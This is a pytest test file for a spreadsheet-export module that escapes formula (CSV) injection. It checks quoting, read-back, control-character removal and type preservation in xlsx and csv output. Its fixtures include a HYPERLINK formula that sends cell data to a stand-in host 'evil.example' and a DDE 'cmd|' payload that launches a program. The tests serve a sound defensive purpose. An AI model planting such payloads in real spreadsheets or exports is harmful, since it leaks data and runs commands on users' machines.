"""core.sheets: every cell an export writes is inert text, writable, and reads back as written."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from flowmember.core.sheets import cell, row, uncell

HYPERLINK = '=HYPERLINK("http://evil.example/?"&C2,"x")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        # Formulas and what a spreadsheet starts evaluating at (OWASP CSV injection).
        (HYPERLINK, "'" + HYPERLINK),
        ("=1+1", "'=1+1"),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1,1)", "'@SUM(1,1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=", "'="),
        ("-", "'-"),
        # Quotes before such a character get one more, so reading back is exact.
        ("'=1+1", "''=1+1"),
        ("''@x", "'''@x"),
        # A plain number as text evaluates to that number and nothing else: left as it is.
        ("+8613800138000", "+8613800138000"),
        ("-5", "-5"),
        ("-12.50", "-12.50"),
        ("+86 138", "'+86 138"),
        # Characters a spreadsheet cannot hold are removed, before the check above.
        ("张\x07三", "张三"),
        ("\x00\x08\x0b\x0c\x0e\x1f", ""),
        ("\x07=1+1", "'=1+1"),
        ("a\ud800b\ufffe\uffff", "ab"),
        # Line breaks and tabs inside text are kept; leading ones only get the quote.
        ("line 1\nline 2\tx\r", "line 1\nline 2\tx\r"),
        ("\nA", "\nA"),
        # Ordinary text, quotes elsewhere, and what looks like a formula elsewhere stay.
        ("某公司", "某公司"),
        ("O'Brien", "O'Brien"),
        ("'quoted'", "'quoted'"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("", ""),
        # Numbers, dates and booleans stay numbers, dates and booleans.
        (None, None),
        (0, 0),
        (-5, -5),
        (2.5, 2.5),
        (Decimal("-40.00"), Decimal("-40.00")),
        (True, True),
        (date(2026, 11, 1), date(2026, 11, 1)),
        (
            datetime(2026, 11, 1, 8, 30, tzinfo=UTC),
            datetime(2026, 11, 1, 8, 30, tzinfo=UTC),
        ),
    ],
)
def test_cell(value, written):
    assert cell(value) == written
    assert type(cell(value)) is type(written)


def test_cell_turns_other_objects_into_text():
    class Label:
        def __str__(self):
            return "=label"

    assert cell(Label()) == "'=label"


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "=", "'=x", "''+y", "@", "-", "-5", "+8613800138000", "O'Brien", "'x", "'", "某"],
)
def test_uncell_reads_back_what_cell_wrote(text):
    assert uncell(cell(text)) == text


def test_uncell_leaves_a_quote_it_did_not_add():
    assert uncell("'quoted'") == "'quoted'"
    assert uncell("'") == "'"


def test_an_xlsx_of_cells_holds_strings_never_formulas():
    values = [HYPERLINK, "@x", "-1+1", "张\x07三", "+8613800138000", 12.5, None, date(2026, 1, 2)]
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    sheet.append(row(values))
    buffer = io.BytesIO()
    book.save(buffer)
    cells = next(load_workbook(buffer).active.iter_rows())
    assert [c.data_type for c in cells[:5]] == ["s"] * 5
    assert [c.value for c in cells] == [
        "'" + HYPERLINK,
        "'@x",
        "'-1+1",
        "张三",
        "+8613800138000",
        12.5,
        None,
        datetime(2026, 1, 2),
    ]


def test_a_csv_of_cells_starts_no_cell_with_a_formula():
    text = io.StringIO()
    csv.writer(text).writerow(row([HYPERLINK, "+1+1", "ok", 3]))
    (cells,) = csv.reader(io.StringIO(text.getvalue()))
    assert cells == ["'" + HYPERLINK, "'+1+1", "ok", "3"]
